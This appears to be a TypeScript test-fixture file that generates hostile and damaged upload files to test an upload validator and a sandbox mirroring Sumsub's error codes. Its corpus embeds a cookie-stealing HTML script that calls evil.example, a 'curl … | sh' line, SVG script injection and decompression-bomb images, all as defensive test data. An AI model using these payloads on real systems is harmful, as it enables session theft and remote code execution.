// Hostile and broken files, made by code (no binary fixtures), for the browser tests of
// src/internal/file-check.ts and of the sandbox's upload checks; plus the valid samples and the
// synthetic photos those tests and the bench start from. Runs in the browser: images are drawn
// on a canvas and encoded by Chromium, then damaged byte by byte.
import type { FileProblem } from '../../src/internal/file-check.js';
import { bytes, pngChunk, u16be, u32be, type Bytes } from './bytes.js';

/** One file that must be refused, and why. */
export interface CorpusEntry {
  /** What it is, for test titles. */
  name: string;
  file: File;
  /** The problem `checkFile` must find. */
  expected: FileProblem;
  /**
   * Sumsub's error code the sandbox must answer: 1003 empty, 1002 too big, 1005 a known but
   * unsupported format, 1004 anything else (not a known format, renamed, damaged, too many
   * pixels, undecodable).
   */
  sumsub: 1002 | 1003 | 1004 | 1005;
}

// ── images drawn by Chromium ─────────────────────────────────────────────────

export type CanvasImageType = 'image/jpeg' | 'image/png' | 'image/webp';

/**
 * An image encoded by the browser: four coloured quadrants (top left red, top right green, bottom
 * left blue, bottom right white) over which `noise` (0–255) adds random speckle.
 */
export async function canvasImage(
  type: CanvasImageType,
  width: number,
  height: number,
  options: { quality?: number; noise?: number } = {},
): Promise<Bytes> {
  const canvas = new OffscreenCanvas(width, height);
  const context = canvas.getContext('2d')!;
  const [left, top] = [Math.ceil(width / 2), Math.ceil(height / 2)];
  const [right, bottom] = [width - left, height - top];
  const quadrants = [
    ['#f00', 0, 0, left, top],
    ['#0f0', left, 0, right, top],
    ['#00f', 0, top, left, bottom],
    ['#fff', left, top, right, bottom],
  ] as const;
  for (const [color, x, y, w, h] of quadrants) {
    context.fillStyle = color;
    context.fillRect(x, y, w, h);
  }
  if (options.noise) addNoise(context, width, height, options.noise, 1);
  const blob = await canvas.convertToBlob({ type, quality: options.quality });
  if (blob.type !== type) throw new Error(`this browser cannot encode ${type}`);
  return new Uint8Array(await blob.arrayBuffer());
}

/**
 * A photo-like image (JPEG unless `type` says otherwise): soft gradients, a few shapes and sensor
 * noise, so that it compresses like a camera's picture (a 4000 × 3000 JPEG at quality 0.95 is
 * several MB). Deterministic for a `seed` (7 by default); `fresh` makes a picture no document
 * holds yet (Sumsub refuses a duplicate, 1000).
 */
export async function syntheticPhoto(
  width: number,
  height: number,
  options: { quality?: number; name?: string; type?: CanvasImageType; seed?: number | 'fresh' } = {},
): Promise<File> {
  const canvas = new OffscreenCanvas(width, height);
  const context = canvas.getContext('2d')!;
  const sky = context.createLinearGradient(0, 0, width * 0.3, height);
  sky.addColorStop(0, '#5b86c5');
  sky.addColorStop(0.55, '#d9c7a3');
  sky.addColorStop(1, '#3d4a2c');
  context.fillStyle = sky;
  context.fillRect(0, 0, width, height);
  let seed = options.seed === 'fresh' ? crypto.getRandomValues(new Uint32Array(1))[0] : (options.seed ?? 7);
  const random = () => (seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) / 2 ** 32;
  for (let i = 0; i < 60; i += 1) {
    const x = random() * width;
    const y = random() * height;
    const radius = (0.02 + random() * 0.15) * Math.min(width, height);
    const glow = context.createRadialGradient(x, y, 0, x, y, radius);
    glow.addColorStop(0, `hsla(${Math.floor(random() * 360)}, 60%, ${30 + Math.floor(random() * 50)}%, 0.9)`);
    glow.addColorStop(1, 'hsla(0, 0%, 50%, 0)');
    context.fillStyle = glow;
    context.fillRect(x - radius, y - radius, 2 * radius, 2 * radius);
  }
  context.fillStyle = 'rgba(20, 20, 30, 0.85)';
  context.font = `${Math.round(height / 12)}px sans-serif`;
  context.fillText('PASSPORT  P<UTOERIKSSON<<ANNA', width * 0.05, height * 0.9);
  addNoise(context, width, height, 24, seed);
  const type = options.type ?? 'image/jpeg';
  const blob = await canvas.convertToBlob({ type, quality: options.quality ?? 0.95 });
  return new File([blob], options.name ?? 'IMG_0001.JPG', { type });
}

/** Adds uniform noise of amplitude ±`amount`/2 to every channel, row band by row band. */
function addNoise(context: OffscreenCanvasRenderingContext2D, width: number, height: number, amount: number, seed: number): void {
  let state = seed >>> 0 || 1;
  const band = Math.max(1, Math.floor(4_000_000 / (width * 4)));
  for (let top = 0; top < height; top += band) {
    const rows = Math.min(band, height - top);
    const image = context.getImageData(0, top, width, rows);
    const data = image.data;
    for (let i = 0; i < data.length; i += 4) {
      state ^= state << 13;
      state ^= state >>> 17;
      state ^= state << 5;
      const n = ((state & 0xff) / 255 - 0.5) * amount;
      data[i] += n;
      data[i + 1] += n * 0.8;
      data[i + 2] += n * 1.2;
    }
    context.putImageData(image, 0, top);
  }
}

// ── JPEG surgery ─────────────────────────────────────────────────────────────

/** A JPEG marker segment: its marker, where its FF is, where its data starts and where it ends. */
export interface Segment {
  marker: number;
  start: number;
  data: number;
  end: number;
}

/** The marker segments of a JPEG from SOI to its first scan header (inclusive). */
export function jpegSegments(jpeg: Uint8Array): Segment[] {
  const segments: Segment[] = [];
  for (let offset = 2; offset + 4 <= jpeg.length && jpeg[offset] === 0xff;) {
    const marker = jpeg[offset + 1];
    const end = offset + 2 + ((jpeg[offset + 2] << 8) | jpeg[offset + 3]);
    segments.push({ marker, start: offset, data: offset + 4, end });
    if (marker === 0xda) break;
    offset = end;
  }
  return segments;
}

function segment(jpeg: Uint8Array, marker: number): Segment {
  const found = jpegSegments(jpeg).find((s) => s.marker === marker);
  if (!found) throw new Error(`no segment FF${marker.toString(16).toUpperCase()}`);
  return found;
}

/** Whether a JPEG carries Exif metadata (an APP1 segment starting `Exif\0\0`). */
export function hasExif(jpeg: Uint8Array): boolean {
  return jpegSegments(jpeg).some(
    (s) => s.marker === 0xe1 && new TextDecoder('latin1').decode(jpeg.subarray(s.data, s.data + 6)) === 'Exif\0\0',
  );
}

/**
 * The JPEG with an Exif APP1 segment inserted after SOI: an `Orientation` tag, and a GPS IFD
 * (latitude reference "N") standing for the position a phone records.
 */
export function withExif(jpeg: Uint8Array, orientation: number): Bytes {
  const tiff = bytes(
    'MM',
    [0, 42],
    u32be(8),
    [0, 2], // IFD0: two entries, sorted by tag
    [0x01, 0x12],
    [0, 3],
    u32be(1),
    u16be(orientation),
    [0, 0], // Orientation, SHORT
    [0x88, 0x25],
    [0, 4],
    u32be(1),
    u32be(38), // GPSInfo IFD pointer, LONG
    u32be(0),
    [0, 1], // GPS IFD: one entry
    [0x00, 0x01],
    [0, 2],
    u32be(2),
    'N',
    [0, 0, 0], // GPSLatitudeRef, ASCII "N"
    u32be(0),
  );
  const app1 = bytes([0xff, 0xe1], u16be(2 + 6 + tiff.length), 'Exif', [0, 0], tiff);
  return bytes(jpeg.subarray(0, 2), app1, jpeg.subarray(2));
}

// ── PNG surgery ──────────────────────────────────────────────────────────────

const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];

/** zlib-compressed bytes (what a PNG's IDAT holds). */
export async function deflate(data: Uint8Array): Promise<Bytes> {
  const stream = new Blob([data as Bytes]).stream().pipeThrough(new CompressionStream('deflate'));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

/** A PNG made by hand: its header (8-bit RGB unless told), a grey palette when asked, the given IDAT data, IEND. */
export function handmadePng(
  width: number,
  height: number,
  idat: Uint8Array,
  {
    colorType = 2,
    bitDepth = 8,
    interlace = 0,
    palette = false,
  }: { colorType?: number; bitDepth?: number; interlace?: number; palette?: boolean } = {},
): Bytes {
  const header = bytes(u32be(width), u32be(height), [bitDepth, colorType, 0, 0, interlace]);
  const plte = palette ? pngChunk('PLTE', bytes([0, 0, 0, 128, 128, 128, 255, 255, 255])) : new Uint8Array(0);
  return bytes(PNG_SIGNATURE, pngChunk('IHDR', header), plte, pngChunk('IDAT', idat), pngChunk('IEND', new Uint8Array(0)));
}

/** `count` filtered rows of `size` bytes each: filter byte 0, then mid grey. */
export function pngRows(count: number, size: number): Bytes {
  const rows = new Uint8Array(count * (1 + size)).fill(0x80);
  for (let row = 0; row < count; row += 1) rows[row * (1 + size)] = 0;
  return rows;
}

/** Filtered rows of a `width` × `height` 8-bit RGB image. */
function rgbRows(width: number, height: number): Bytes {
  return pngRows(height, 3 * width);
}

// ── other formats ────────────────────────────────────────────────────────────

/** A small, complete PDF of exactly `size` bytes (at least 120), padded with a comment. */
export function pdfBytes(size = 512, title = 'statement'): Bytes {
  const head = `%PDF-1.4\n1 0 obj << /Type /Catalog /Title (${title}) >> endobj\ntrailer << /Root 1 0 R >>\n%`;
  const tail = '\n%%EOF\n';
  const padding = size - head.length - tail.length;
  if (padding < 0) throw new Error(`a PDF needs at least ${head.length + tail.length} bytes`);
  return bytes(head, new Uint8Array(padding).fill(0x2e), tail);
}

/** A HEIC container: ftyp (heic, mif1), meta and mdat boxes. */
export function heicBytes(tag = 'heic'): Bytes {
  const box = (type: string, data: Uint8Array) => bytes(u32be(8 + data.length), type, data);
  return bytes(box('ftyp', bytes('heic', u32be(0), 'mif1heic')), box('meta', bytes(u32be(0))), box('mdat', bytes(tag)));
}

function file(content: Uint8Array, name: string, type = ''): File {
  return new File([content as Bytes], name, { type });
}

/** Valid files of each accepted format, as the browser (or a scanner) makes them. */
export async function validSamples(): Promise<{ jpeg: File; png: File; webp: File; pdf: File; heic: File }> {
  return {
    jpeg: file(await canvasImage('image/jpeg', 64, 48, { quality: 0.9 }), 'photo.jpg', 'image/jpeg'),
    png: file(await canvasImage('image/png', 40, 30), 'scan.png', 'image/png'),
    webp: file(await canvasImage('image/webp', 30, 20, { quality: 0.8 }), 'picture.webp', 'image/webp'),
    pdf: file(pdfBytes(2048), 'statement.pdf', 'application/pdf'),
    heic: file(heicBytes(), 'IMG_0001.HEIC', 'image/heic'),
  };
}

// ── the corpus ───────────────────────────────────────────────────────────────

/**
 * Every hostile or broken file, with the problem `checkFile` must find and the code the sandbox
 * must answer. `maxBytes` is the limit the over-the-limit entry is one byte past: pass a small
 * one (1 MiB) to `checkFile` too, rather than writing 64 MiB.
 */
export async function hostileCorpus(maxBytes: number): Promise<CorpusEntry[]> {
  const jpeg = await canvasImage('image/jpeg', 64, 48, { quality: 0.9, noise: 40 });
  const png = await canvasImage('image/png', 32, 24, { noise: 40 });
  const webp = await canvasImage('image/webp', 32, 24, { quality: 0.8, noise: 40 });
  const html = '<!DOCTYPE html><html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
  const svg =
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>';

  const sof = segment(jpeg, 0xc0);
  const dqt = segment(jpeg, 0xdb);
  const dht = segment(jpeg, 0xc4);
  const edit = (source: Uint8Array, change: (copy: Bytes) => void): Bytes => {
    const copy = Uint8Array.from(source);
    change(copy);
    return copy;
  };
  const withoutSegment = (source: Uint8Array, s: Segment) => bytes(source.subarray(0, s.start), source.subarray(s.end));
  const bogusHuffman = edit(jpeg, (copy) => {
    // The first table's codes recounted as two of 1 bit (which overflow the code space), the rest of 16 bits.
    const counts = dht.data + 1;
    const symbols = copy.subarray(counts, counts + 16).reduce((sum, count) => sum + count, 0);
    if (symbols < 2) throw new Error('the first Huffman table has fewer than two codes');
    copy.fill(0, counts, counts + 16);
    copy[counts] = 2;
    copy[counts + 15] = symbols - 2;
  });
  const vp8 = findChunk(webp, 'VP8 ');

  const entries: CorpusEntry[] = [
    { name: 'zero bytes', file: file(new Uint8Array(0), 'passport.jpg', 'image/jpeg'), expected: 'empty', sumsub: 1003 },
    {
      name: 'a PDF one byte over the limit',
      file: file(pdfBytes(maxBytes + 1), 'statement.pdf', 'application/pdf'),
      expected: 'too-big',
      sumsub: 1002,
    },

    // Not a document format at all.
    {
      name: 'an ELF executable named .jpg',
      file: file(bytes([0x7f], 'ELF', [2, 1, 1, 0], new Array(56).fill(0)), 'photo.jpg', 'image/jpeg'),
      expected: 'unsupported',
      sumsub: 1004,
    },
    {
      name: 'a Windows executable (MZ, PE) named .pdf',
      file: file(
        bytes('MZ', new Array(58).fill(0), [0x80, 0, 0, 0], new Array(64).fill(0), 'PE', [0, 0, 0x4c, 0x01]),
        'statement.pdf',
        'application/pdf',
      ),
      expected: 'unsupported',
      sumsub: 1004,
    },
    {
      name: 'a shell script named .jpg',
      file: file(bytes('#!/bin/sh\ncurl -s https://evil.example/x | sh\n'), 'id-card.jpg', 'image/jpeg'),
      expected: 'unsupported',
      sumsub: 1004,
    },
    { name: 'an HTML page named .jpg', file: file(bytes(html), 'selfie.jpg', 'image/jpeg'), expected: 'unsupported', sumsub: 1004 },
    {
      name: 'an HTML page named .pdf and declared application/pdf',
      file: file(bytes(html), 'bank-statement.pdf', 'application/pdf'),
      expected: 'unsupported',
      sumsub: 1004,
    },
    {
      name: 'an SVG with a script named .jpg',
      file: file(bytes(svg), 'passport.jpg', 'image/jpeg'),
      expected: 'unsupported',
      sumsub: 1004,
    },
    { name: 'an SVG named .pdf', file: file(bytes(svg), 'proof-of-address.pdf', 'application/pdf'), expected: 'unsupported', sumsub: 1004 },
    {
      name: 'a ZIP archive named .pdf',
      file: file(
        bytes('PK', [3, 4, 20, 0], new Array(22).fill(0), 'doc.pdf', 'PK', [5, 6], new Array(18).fill(0)),
        'documents.pdf',
        'application/pdf',
      ),
      expected: 'unsupported',
      sumsub: 1004,
    },
    {
      name: 'plain text without a name or type',
      file: file(bytes('Name: Jane Doe\nPassport: 123456789\n'), 'notes'),
      expected: 'unsupported',
      sumsub: 1004,
    },

    // Image formats Sumsub does not take.
    {
      name: 'a TIFF scan',
      file: file(bytes('II', [42, 0], [8, 0, 0, 0], [1, 0], [0, 1, 3, 0, 1, 0, 0, 0, 1, 0, 0, 0], [0, 0, 0, 0]), 'scan.tiff', 'image/tiff'),
      expected: 'unsupported',
      sumsub: 1005,
    },
    {
      name: 'a GIF',
      file: file(
        bytes('GIF89a', [1, 0, 1, 0, 0x80, 0, 0, 0xff, 0xff, 0xff, 0, 0, 0], [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0], ';'),
        'photo.gif',
        'image/gif',
      ),
      expected: 'unsupported',
      sumsub: 1005,
    },
    {
      name: 'a BMP',
      file: file(
        bytes(
          'BM',
          [58, 0, 0, 0, 0, 0, 0, 0, 54, 0, 0, 0],
          [40, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 24, 0],
          new Array(24).fill(0),
          [0, 0, 0xff, 0],
        ),
        'scan.bmp',
        'image/bmp',
      ),
      expected: 'unsupported',
      sumsub: 1005,
    },
    {
      name: 'an AVIF',
      file: file(
        bytes(u32be(24), 'ftypavif', u32be(0), 'mif1avif', u32be(12), 'meta', u32be(0), u32be(9), 'mdat', 'x'),
        'photo.avif',
        'image/avif',
      ),
      expected: 'unsupported',
      sumsub: 1005,
    },

    // Not what the name or the declared type says.
    { name: 'a PDF named .jpg', file: file(pdfBytes(600, 'renamed'), 'passport.jpg', 'image/jpeg'), expected: 'mismatch', sumsub: 1004 },
    { name: 'a JPEG declared application/pdf', file: file(jpeg, 'scan', 'application/pdf'), expected: 'mismatch', sumsub: 1004 },
    { name: 'a PNG named .jpg', file: file(png, 'photo.jpg', 'image/jpeg'), expected: 'mismatch', sumsub: 1004 },
    { name: 'a HEIC named .jpg', file: file(heicBytes(), 'IMG_0001.jpg', 'image/jpeg'), expected: 'mismatch', sumsub: 1004 },

    // Cut or damaged.
    {
      name: 'a truncated JPEG',
      file: file(jpeg.subarray(0, Math.floor(jpeg.length / 2)), 'photo.jpg', 'image/jpeg'),
      expected: 'corrupted',
      sumsub: 1004,
    },
    {
      name: 'a JPEG without its end of image',
      file: file(jpeg.subarray(0, jpeg.length - 2), 'photo.jpg', 'image/jpeg'),
      expected: 'corrupted',
      sumsub: 1004,
    },
    {
      name: 'a JPEG whose segment chain is broken',
      file: file(
        edit(jpeg, (copy) => (copy[dqt.start + 3] += 1)),
        'photo.jpg',
        'image/jpeg',
      ),
      expected: 'corrupted',
      sumsub: 1004,
    },
    {
      name: 'a JPEG without a frame header',
      file: file(withoutSegment(jpeg, sof), 'photo.jpg', 'image/jpeg'),
      expected: 'corrupted',
      sumsub: 1004,
    },
    {
      name: 'a polyglot: JPEG header, then an HTML page',
      file: file(
        bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], 'JFIF', [0, 1, 1, 0, 0, 1, 0, 1, 0, 0], html, [0xff, 0xd9]),
        'selfie.jpg',
        'image/jpeg',
      ),
      expected: 'corrupted',
      sumsub: 1004,
    },
    {
      name: 'a PNG signature followed by garbage',
      file: file(bytes(PNG_SIGNATURE, 'this is not a chunk, just text pretending to be an image'), 'scan.png', 'image/png'),
      expected: 'corrupted',
      sumsub: 1004,
    },
    {
      name: 'a PNG with a bad CRC',
      file: file(
        edit(png, (copy) => (copy[findChunk(png, 'IDAT').data + 5] ^= 0x5a)),
        'scan.png',
        'image/png',
      ),
      expected: 'corrupted',
      sumsub: 1004,
    },
    { name: 'a truncated PNG', file: file(png.subarray(0, png.length - 12), 'scan.png', 'image/png'), expected: 'corrupted', sumsub: 1004 },
    {
      name: 'a palette PNG without its palette',
      file: file(handmadePng(8, 8, await deflate(new Uint8Array(8 * 9)), { colorType: 3 }), 'scan.png', 'image/png'),
      expected: 'corrupted',
      sumsub: 1004,
    },
    {
      name: 'a PDF without %%EOF',
      file: file(bytes('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n', new Array(200).fill(0x20)), 'statement.pdf', 'application/pdf'),
      expected: 'corrupted',
      sumsub: 1004,
    },
    {
      name: 'a truncated WebP',
      file: file(webp.subarray(0, webp.length - 16), 'picture.webp', 'image/webp'),
      expected: 'corrupted',
      sumsub: 1004,
    },
    {
      name: 'a HEIC whose last box runs past the end',
      file: file(heicBytes().subarray(0, 40), 'IMG_0001.HEIC', 'image/heic'),
      expected: 'corrupted',
      sumsub: 1004,
    },

    // Decompression bombs: small files whose headers claim huge images.
    {
      name: 'a JPEG claiming 40000 × 40000 pixels',
      file: file(
        edit(jpeg, (copy) => copy.set([...u16be(40000), ...u16be(40000)], sof.data + 1)),
        'photo.jpg',
        'image/jpeg',
      ),
      expected: 'too-many-pixels',
      sumsub: 1004,
    },
    {
      name: 'a PNG claiming 30000 × 30000 pixels',
      file: file(handmadePng(30000, 30000, await deflate(new Uint8Array(1000))), 'scan.png', 'image/png'),
      expected: 'too-many-pixels',
      sumsub: 1004,
    },
    {
      name: 'a WebP claiming 16384 × 16384 pixels',
      file: file(extendedWebp(webp, 16384, 16384), 'picture.webp', 'image/webp'),
      expected: 'too-many-pixels',
      sumsub: 1004,
    },

    // Whole by their structure, yet no decoder can make pixels of them.
    {
      name: 'a JPEG using an undefined quantization table',
      file: file(
        edit(jpeg, (copy) => (copy[sof.data + 8] = 3)),
        'photo.jpg',
        'image/jpeg',
      ),
      expected: 'undecodable',
      sumsub: 1004,
    },
    {
      name: 'a JPEG with a bogus Huffman table',
      file: file(bogusHuffman, 'photo.jpg', 'image/jpeg'),
      expected: 'undecodable',
      sumsub: 1004,
    },
    {
      name: 'a 12-bit JPEG',
      file: file(
        edit(jpeg, (copy) => (copy[sof.data] = 12)),
        'photo.jpg',
        'image/jpeg',
      ),
      expected: 'undecodable',
      sumsub: 1004,
    },
    {
      name: 'a lossless JPEG (SOF3)',
      file: file(
        edit(jpeg, (copy) => (copy[sof.start + 1] = 0xc3)),
        'photo.jpg',
        'image/jpeg',
      ),
      expected: 'undecodable',
      sumsub: 1004,
    },
    {
      name: 'a JPEG scan naming a component the frame lacks',
      file: file(
        edit(jpeg, (copy) => (copy[segment(jpeg, 0xda).data + 1] = 9)),
        'photo.jpg',
        'image/jpeg',
      ),
      expected: 'undecodable',
      sumsub: 1004,
    },
    {
      name: 'a PNG whose image data is not zlib',
      file: file(handmadePng(16, 16, bytes('definitely not a zlib stream, but the CRC is right')), 'scan.png', 'image/png'),
      expected: 'undecodable',
      sumsub: 1004,
    },
    {
      name: 'a PNG whose image data stops after one row',
      file: file(handmadePng(16, 16, await deflate(rgbRows(16, 1))), 'scan.png', 'image/png'),
      expected: 'undecodable',
      sumsub: 1004,
    },
    {
      name: 'a PNG with an unknown row filter',
      file: file(handmadePng(16, 16, await deflate(edit(rgbRows(16, 16), (rows) => (rows[49 * 5] = 7)))), 'scan.png', 'image/png'),
      expected: 'undecodable',
      sumsub: 1004,
    },
    {
      name: 'a WebP whose first partition overruns its chunk',
      file: file(
        edit(webp, (copy) => copy.set([copy[vp8.data] | 0xe0, 0xff, 0xff], vp8.data)),
        'picture.webp',
        'image/webp',
      ),
      expected: 'undecodable',
      sumsub: 1004,
    },
  ];
  for (const entry of entries)
    if (entry.file.size > maxBytes && entry.expected !== 'too-big') throw new Error(`${entry.name} is over the limit`);
  return entries;
}

/** A WebP of the lossy image of `source` behind an extended header (VP8X) that declares a `width` × `height` canvas. */
function extendedWebp(source: Uint8Array, width: number, height: number): Bytes {
  const { data, size } = findChunk(source, 'VP8 ');
  const image = source.subarray(data - 8, data + size + (size % 2));
  const u24le = (value: number) => [value & 0xff, (value >>> 8) & 0xff, (value >>> 16) & 0xff];
  const header = bytes('VP8X', [10, 0, 0, 0], [0, 0, 0, 0], u24le(width - 1), u24le(height - 1));
  return bytes('RIFF', u32be(4 + header.length + image.length).reverse(), 'WEBP', header, image);
}

/** A RIFF (WebP) or PNG chunk by type: where its data starts, and its size. */
function findChunk(source: Uint8Array, type: string): { data: number; size: number } {
  const isPng = source[0] === 0x89;
  for (let offset = isPng ? 8 : 12; offset + 8 <= source.length;) {
    const name = String.fromCharCode(...source.subarray(offset + 4 * Number(isPng), offset + 4 * Number(isPng) + 4));
    const size = isPng
      ? ((source[offset] << 24) | (source[offset + 1] << 16) | (source[offset + 2] << 8) | source[offset + 3]) >>> 0
      : source[offset + 4] | (source[offset + 5] << 8) | (source[offset + 6] << 16) | (source[offset + 7] << 24);
    if (name === type) return { data: offset + 8, size };
    offset += isPng ? 12 + size : 8 + size + (size % 2);
  }
  throw new Error(`no ${type} chunk`);
}
